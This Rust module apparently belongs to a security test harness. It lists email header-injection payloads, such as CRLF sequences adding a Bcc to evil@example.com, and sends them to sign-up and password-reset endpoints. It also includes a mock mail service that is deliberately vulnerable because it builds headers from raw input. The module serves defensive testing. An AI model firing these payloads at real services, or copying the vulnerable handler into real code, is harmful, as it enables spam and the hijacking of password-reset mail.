//! Mail injection: a line break in an address or a name makes another recipient, or another mail, of it.

use axum::extract::State;
use axum::http::StatusCode;
use axum::routing::{get, post};
use axum::{Json, Router};
use serde_json::{Value, json};
use std::sync::{Arc, Mutex, PoisonError};

use super::{Attack, Control};
use crate::Outcome;
use crate::target::{PASSWORD, Target};

pub const ATTACK: Attack = Attack { name: "mail_injection", settings: &[], control: Control::Service };

const ADDRESSES: [&str; 6] = [
    "alice@example.com\r\nBcc: evil@example.com",
    "alice@example.com\nTo: evil@example.com",
    "alice@example.com, evil@example.com",
    "alice@example.com%0d%0aBcc: evil@example.com",
    "\"alice\r\nBcc: evil@example.com\"@example.com",
    "alice <evil@example.com>",
];

pub async fn attack(target: &Target) -> anyhow::Result<Outcome> {
    for address in ADDRESSES {
        for path in ["/api/v1/sign-up", "/api/v1/forgot-password"] {
            let mut body = json!({"email": address});
            if path.ends_with("sign-up") {
                body["password"] = PASSWORD.into();
                body["name"] = "Sam\r\nBcc: evil@example.com".into();
            }
            target.json(path, &body).await?;
        }
    }
    // Mails leave within a moment; one of the sender's own, by which it is known that they did.
    target.json("/api/v1/forgot-password", &json!({"email": "last@example.com"})).await?;
    target.mail("last@example.com", "no_account").await?;
    let mails = target.get("/dev/inbox.json", "").await?.json();
    let evil = mails.as_array().into_iter().flatten().find(|mail| mail["to"] == "evil@example.com");
    Ok(Outcome::of(evil.map(|mail| format!("a mail went to {}", mail["to"]))))
}

type Mails = Arc<Mutex<Vec<Value>>>;

pub async fn service() -> anyhow::Result<Target> {
    let router = Router::new()
        .route("/api/v1/sign-up", post(send))
        .route("/api/v1/forgot-password", post(send))
        .route("/dev/inbox.json", get(inbox))
        .with_state(Mails::default());
    Target::service(router).await
}

/// Writes the mail as text, and sends it to whom that text names.
async fn send(State(mails): State<Mails>, Json(body): Json<Value>) -> StatusCode {
    let mail = format!("To: {}\r\nSubject: Hello\r\n", body["email"].as_str().unwrap_or_default());
    let recipients = mail.lines().filter_map(|line| line.strip_prefix("To: ").or_else(|| line.strip_prefix("Bcc: ")));
    let sent = recipients.map(|to| json!({"to": to, "kind": "no_account"}));
    mails.lock().unwrap_or_else(PoisonError::into_inner).extend(sent);
    StatusCode::ACCEPTED
}

async fn inbox(State(mails): State<Mails>) -> Json<Value> {
    Json(mails.lock().unwrap_or_else(PoisonError::into_inner).clone().into())
}
